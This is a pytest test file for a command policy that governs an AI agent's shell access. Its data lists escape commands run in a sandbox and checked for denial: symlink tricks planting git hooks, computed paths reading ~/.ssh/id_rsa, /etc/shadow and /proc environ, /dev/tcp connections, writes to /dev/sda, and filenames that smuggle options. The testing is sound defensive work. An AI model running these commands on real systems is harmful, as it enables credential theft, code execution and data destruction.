@@ -1,0 +1,360 @@
+"""Issue 10, class 8: paths the policy resolves differently from the kernel are undecidable.
+
+A link made and used in the same command (`ln -s .git/hooks h && … > h/post-checkout`), a
+computed path for any program (`cat $HOME/.ssh/id_rsa`, `cat "$(pwd)/../x"`), `cd -`, `find`
+options that follow links or read start points from a file, and globs are where the policy
+and the kernel used to part ways. Each example is run for real first (bubblewrap, real
+programs, a throwaway workspace next to an ``/tmp/outside`` directory) to show it reaches a
+protected path or a file outside the workspace; then the policy must deny it. Device paths
+are streams: never removed or changed.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from enforcement_agent.models import ToolRequest, Verdict
+from enforcement_agent.policy import Policy
+from tests.policy.bash_oracle import available, build_workspace, run_for_real
+
+pytestmark = pytest.mark.skipif(not available(), reason="bubblewrap and bash are required")
+
+OUTSIDE = {"s": "OUTSIDE-SECRET-42\n"}
+MARK = b"OUTSIDE-SECRET-42"
+FILES: dict[str, str | bytes] = {"src/app.py": "x\n", "notes.md": "id\n", "sub/a.txt": "a\n"}
+GIT = "git init -q"
+
+# Writes that land in .git/hooks through a link the same command makes (or moves).
+LINK_WRITES = [
+    ("ln -s .git/hooks h && echo id > h/post-checkout", GIT),
+    ("ln -s .git/hooks h; echo id > h/post-checkout", GIT),
+    ("ln -sf .git h && echo id > h/hooks/post-checkout", GIT),
+    ("mkdir d && ln -s ../.git d/g && echo id > d/g/hooks/post-checkout", GIT),
+    ("ln -s . loop && echo id > loop/.git/hooks/post-checkout", GIT),
+    (
+        "cp -s $PWD/.git/hooks/post-checkout p && echo id >> p",
+        GIT + " && touch .git/hooks/post-checkout",
+    ),
+    ("mv lh h2 && echo id > h2/post-checkout", GIT + " && ln -s .git/hooks lh"),
+    ("tar xf links.tar && echo id > h/post-checkout", GIT),
+    ("(sleep 0.3; echo id > h/post-checkout) & ln -s .git/hooks h; wait", GIT),
+    ("bash -c 'ln -s .git/hooks h' && echo id > h/post-checkout", GIT),
+    ("ln -s .git/hooks h && cd h && echo id > post-checkout", GIT),
+    ("ln -s .git/hooks h && cp notes.md h/post-checkout", GIT),
+    ("ln -s .git/hooks h && tee h/post-checkout < notes.md", GIT),
+]
+# Reads that reach /tmp/outside/s (the workspace is /tmp/ws, HOME is /tmp/home).
+OUTSIDE_READS = [
+    ("cat $HOME/../outside/s", ""),
+    ('cat "$(pwd)/../outside/s"', ""),
+    ('head "$PWD/../outside/s"', ""),
+    ("cat ${OLDPWD:-..}/outside/s", ""),
+    ("x=../outside/s; cat $x", ""),
+    ("f=s; cat ../outside/$f", ""),
+    ("wc -c $(echo ../outside/s) && cat ../outside/s", ""),
+    ("grep . $(dirname $PWD)/outside/s", ""),
+    ("cd sub && cd - && cat $OLDPWD/../../outside/s", ""),
+    ("cd /tmp/outside; cd -; cat $OLDPWD/s", ""),
+    ("echo ../outside/s | xargs cat", ""),
+    ("printf '%s\\n' ../outside/s | xargs cat", ""),
+    ("find -L . -name s -exec cat {} \\;", "ln -s /tmp/outside out"),
+    ("find . -follow -name s -exec cat {} \\;", "ln -s /tmp/outside out"),
+    ("find -H out/ -name s -exec cat {} \\;", "ln -s /tmp/outside out"),
+    ("find -files0-from list -exec cat {} \\;", "printf '/tmp/outside/s\\0' > list"),
+    ("cat o*/s", "ln -s /tmp/outside out"),
+    ("cat */s", "ln -s /tmp/outside out"),
+    ("ls | xargs -I{} cat {}/s", "ln -s /tmp/outside out"),
+    ("ln -s /tmp/outside o && cat o/s", ""),
+    ("cat ~/../outside/s", ""),
+]
+
+
+def _decide(policy: Policy, ws: Path, command: str, role: str = "contributor") -> Verdict:
+    req = ToolRequest(tenant="acme", actor="a", role=role, tool="exec", command=command)
+    return policy.decide(req, ws).decision
+
+
+def _links_tar() -> bytes:
+    import io
+    import tarfile
+
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w") as tf:
+        info = tarfile.TarInfo("h")
+        info.type = tarfile.SYMTYPE
+        info.linkname = ".git/hooks"
+        tf.addfile(info)
+    return buf.getvalue()
+
+
+def _files() -> dict[str, str | bytes]:
+    return {**FILES, "links.tar": _links_tar()}
+
+
+def test_there_are_enough_cases() -> None:
+    assert len(LINK_WRITES) + len(OUTSIDE_READS) >= 21
+
+
+@pytest.mark.parametrize(("command", "setup"), LINK_WRITES)
+def test_link_tricks_really_write_a_hook(command: str, setup: str) -> None:
+    effect = run_for_real(command, files=_files(), setup=setup)
+    hook = effect.files.get(".git/hooks/post-checkout", b"")
+    assert b"id" in hook, (command, effect.stderr[-300:])
+
+
+@pytest.mark.parametrize(("command", "setup"), LINK_WRITES)
+def test_link_tricks_are_denied(
+    default_policy: Policy, tmp_path: Path, command: str, setup: str
+) -> None:
+    ws = build_workspace(tmp_path, _files(), setup)
+    for role in ("contributor", "admin"):
+        assert _decide(default_policy, ws, command, role) is Verdict.DENY, (command, role)
+
+
+@pytest.mark.parametrize(("command", "setup"), OUTSIDE_READS)
+def test_computed_and_followed_paths_really_read_outside(command: str, setup: str) -> None:
+    effect = run_for_real(command, files=_files(), setup=setup, outside=OUTSIDE)
+    assert MARK in effect.stdout, (command, effect.stdout[:200], effect.stderr[-300:])
+
+
+@pytest.mark.parametrize(("command", "setup"), OUTSIDE_READS)
+def test_computed_and_followed_paths_are_denied(
+    default_policy: Policy, tmp_path: Path, command: str, setup: str
+) -> None:
+    (tmp_path / "outside").mkdir()
+    (tmp_path / "outside" / "s").write_text(OUTSIDE["s"])
+    ws = build_workspace(
+        tmp_path, _files(), setup.replace("/tmp/outside", str(tmp_path / "outside"))
+    )
+    for role in ("viewer", "contributor", "admin"):
+        assert _decide(default_policy, ws, command, role) is not Verdict.ALLOW, (command, role)
+
+
+DEVICE_CHANGES = [
+    "rm -f /dev/null",
+    "rm /dev/stdout",
+    "mv notes.md /dev/null",
+    "chmod 666 /dev/null",
+    "chown nobody /dev/tty",
+    "ln -sf notes.md /dev/stdout",
+    "touch /dev/null",
+    "truncate -s 0 /dev/null",
+    "cp notes.md /dev/sda",
+    "dd if=notes.md of=/dev/sda",
+    "echo x > /dev/tcp/203.0.113.1/80",
+    "cat < /dev/tcp/203.0.113.1/80",
+    "cat /proc/self/environ",
+    "cat /proc/self/root/etc/shadow",
+    "echo x > /proc/sys/kernel/panic",
+    "find /dev -delete",
+    "shred /dev/null",
+]
+DEVICE_STREAMS = [
+    "echo x > /dev/null",
+    "make 2> /dev/null",
+    "cat /dev/null > notes.md",
+    "tee /dev/null < notes.md",
+    "ls > /dev/stdout",
+    "head -c 8 /dev/urandom | od -An -tx1",
+]
+
+
+@pytest.mark.parametrize(
+    ("command", "want"),
+    [(c, Verdict.DENY) for c in DEVICE_CHANGES] + [(c, Verdict.ALLOW) for c in DEVICE_STREAMS],
+)
+def test_devices_are_streams_never_files_to_change(
+    default_policy: Policy, tmp_path: Path, command: str, want: Verdict
+) -> None:
+    """Device paths are not exempt from the write and delete rules; streaming stays usable."""
+    ws = build_workspace(tmp_path, FILES)
+    for role in ("contributor", "admin"):
+        assert _decide(default_policy, ws, command, role) is want, (command, role)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ln -s src/app.py app.py",
+        "cd sub && ls && cd .. && cat notes.md",
+        "find . -name '*.py' | xargs wc -l",
+        "cat src/*.py",
+        "ls sub/*",
+        "git checkout -b topic",
+        "ln -s app.py src/main_link.py && git status",
+    ],
+)
+def test_decidable_paths_stay_allowed(default_policy: Policy, tmp_path: Path, command: str) -> None:
+    ws = build_workspace(tmp_path, FILES, GIT)
+    assert _decide(default_policy, ws, command) is Verdict.ALLOW, command
+
+
+# Names a producer prints, fed to a command by xargs or a `for` list: they reach it as the
+# same words only when they are plain. Each setup plants names (as anyone who writes the
+# workspace can) that split into a path outside, turn into an option, expand as a glob, or
+# lead out through a link in a directory the old check skipped (node_modules).
+_SPLIT = "mkdir -p 'a /tmp/outside' && cp /tmp/outside/s 'a /tmp/outside/s'"
+_OPTION = "printf '/tmp/outside/s\\0' > list && touch -- --files0-from=list"
+_GLOB = "printf 'ENV-SECRET-42\\n' > .env && touch '.e*'"
+_VENDOR_LINK = "mkdir -p node_modules/x && ln -s /tmp/outside/s node_modules/x/index.py"
+_TRACK = " && git add -A -f"
+NAME_TRICKS = [
+    ("find . -type f | xargs cat", _SPLIT, MARK),
+    ("find . -type f -print | xargs -n 1 cat", _SPLIT, MARK),
+    ("for f in $(find . -type f); do cat $f; done", _SPLIT, MARK),
+    ('for f in $(find . -type f); do cat "$f"; done', _SPLIT, MARK),
+    ("git ls-files | xargs cat", GIT + " && " + _SPLIT + _TRACK, MARK),
+    ('for f in $(git ls-files); do cat "$f"; done', GIT + " && " + _SPLIT + _TRACK, MARK),
+    ("git ls-files | xargs -n 1 sort", GIT + " && " + _OPTION + _TRACK, MARK),
+    ("ls | xargs -n 1 sort", _OPTION, MARK),
+    ("for f in $(git ls-files); do cat $f; done", GIT + " && " + _GLOB + " && git add '.e*'",
+     b"ENV-SECRET-42"),
+    ("for f in $(ls -A); do cat $f; done", _GLOB, b"ENV-SECRET-42"),
+    ("find . -name '*.py' | xargs cat", _VENDOR_LINK, MARK),
+    ("for f in $(find . -name '*.py'); do cat $f; done", _VENDOR_LINK, MARK),
+    # names from a file, or split where the producer did not split them
+    ("find . | xargs -a names.txt cat", "printf '/tmp/outside/s' > names.txt", MARK),
+    ("find . -name s -print0 | xargs -0 -d , cat", "mkdir -p 'x,/tmp/outside' && touch 'x,/tmp/outside/s'", MARK),
+    # names printed as any text (a format, a prefix, a label)
+    ("find . -maxdepth 0 -printf '/tmp/outside/s' | xargs cat", "", MARK),
+    ("git ls-files --format=/tmp/outside/s | xargs cat", GIT + _TRACK, MARK),
+    ("git diff --name-only --line-prefix=/tmp/outside/ | xargs cat",
+     GIT + " && touch s && git add s && git commit -qm s && echo x > s", MARK),
+    ("grep -l . --label=/tmp/outside/s - < notes.md | xargs cat", "", MARK),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("command", "setup", "mark"), NAME_TRICKS)
+def test_names_that_are_not_plain_really_reach_something_else(
+    command: str, setup: str, mark: bytes
+) -> None:
+    effect = run_for_real(command, files=_files(), setup=setup, outside=OUTSIDE)
+    assert mark in effect.stdout, (command, effect.stdout[:200], effect.stderr[-300:])
+
+
+@pytest.mark.parametrize(("command", "setup", "mark"), NAME_TRICKS)
+def test_names_that_are_not_plain_are_not_allowed(
+    default_policy: Policy, tmp_path: Path, command: str, setup: str, mark: bytes
+) -> None:
+    (tmp_path / "outside").mkdir()
+    (tmp_path / "outside" / "s").write_text(OUTSIDE["s"])
+    ws = build_workspace(
+        tmp_path, _files(), setup.replace("/tmp/outside", str(tmp_path / "outside"))
+    )
+    for role in ("contributor", "admin"):
+        assert _decide(default_policy, ws, command, role) is not Verdict.ALLOW, (command, role)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "find . -name '*.py' | xargs wc -l",
+        "find . -type f -print0 | xargs -0 wc -c",
+        "git ls-files | xargs wc -l",
+        "git ls-files '*.py' | xargs -n 10 wc -l",
+        'for f in $(git ls-files); do wc -l "$f"; done',
+        "for f in $(git ls-files); do wc -l $f; done",
+        'for f in $(find src -name "*.py"); do head -1 "$f"; done',
+        "for f in $(rg --files src); do wc -c $f; done",
+        "cd sub && git ls-files | xargs cat",
+        "cd sub && git diff --name-only | xargs wc -l",
+        "cd sub && make; git ls-files | xargs wc -l",
+    ],
+)
+def test_plain_names_from_a_known_printer_are_decided(
+    default_policy: Policy, tmp_path: Path, command: str
+) -> None:
+    ws = build_workspace(
+        tmp_path, {**FILES, ".venv/bin/python": "x"}, GIT + " && git add src notes.md sub"
+    )
+    assert _decide(default_policy, ws, command) is Verdict.ALLOW, command
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        # the names are read relative to another directory than the producer's
+        "for f in $(git ls-files); do cd sub; cat $f; done",
+        "for f in $(git ls-files); do pushd sub; cat $f; popd; done",
+        # IFS decides where the list splits
+        "IFS=/; for f in $(git ls-files); do cat $f; done",
+        # not the whole word: the name is part of a longer path
+        "for f in $(git ls-files); do cat ../$f; done",
+        "git ls-files | xargs -I{} cat ../{}",
+        # not a known name printer
+        "for f in $(cat notes.md); do cat $f; done",
+        "for f in $(git status --short); do cat $f; done",
+        "git status | xargs cat",
+        "for f in $(git ls-files) extra; do cat $f; done",
+    ],
+)
+def test_names_from_elsewhere_stay_undecidable(
+    default_policy: Policy, tmp_path: Path, command: str
+) -> None:
+    ws = build_workspace(tmp_path, FILES, GIT + " && git add -A")
+    assert _decide(default_policy, ws, command) is not Verdict.ALLOW, command
+
+
+_VARS = ["$HOME", "$PWD", "$OLDPWD", "${HOME}", "$(pwd)", "`pwd`", "$x", "${x:-.}", "~+", "~-"]
+_READERS = ["cat", "head", "tail", "wc -l", "less", "grep -n x", "sort", "xxd", "stat", "file"]
+
+
+@settings(
+    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(
+    var=st.sampled_from(_VARS),
+    reader=st.sampled_from(_READERS),
+    rest=st.sampled_from(["/.ssh/id_rsa", "/../x", "", "/notes.md", "/../../etc/passwd"]),
+    quote=st.booleans(),
+)
+def test_a_computed_path_is_never_allowed_for_any_reader(
+    decide: object, var: str, reader: str, rest: str, quote: bool
+) -> None:
+    path = var + rest
+    command = f'{reader} "{path}"' if quote else f"{reader} {path}"
+    d = decide(command)  # type: ignore[operator]
+    assert d.decision is not Verdict.ALLOW, (command, d.rule)
+
+
+EVERYDAY = Path(__file__).with_name("everyday_shell.txt")
+
+
+def _everyday_commands() -> list[str]:
+    import re
+
+    cmds: list[str] = []
+    current: list[str] = []
+    end = ""
+    for line in EVERYDAY.read_text().splitlines():
+        if end:
+            current.append(line)
+            if line.strip() == end:
+                cmds.append("\n".join(current))
+                current, end = [], ""
+            continue
+        if not line.strip() or line.startswith("#"):
+            continue
+        m = re.search(r"<<-?\s*['\"]?(\w+)['\"]?", line)
+        if m:
+            current, end = [line], m.group(1)
+            continue
+        cmds.append(line)
+    return cmds
+
+
+def test_the_everyday_corpus_is_large_enough() -> None:
+    assert len(_everyday_commands()) >= 100
+
+
+@pytest.mark.parametrize("command", _everyday_commands())
+def test_everyday_shell_idioms_stay_allowed(
+    default_policy: Policy, everyday_ws: Path, command: str
+) -> None:
+    req = ToolRequest(tenant="acme", actor="a", role="contributor", tool="exec", command=command)
+    d = default_policy.decide(req, everyday_ws)
+    assert d.decision is Verdict.ALLOW, (command, d.rule, d.reason)
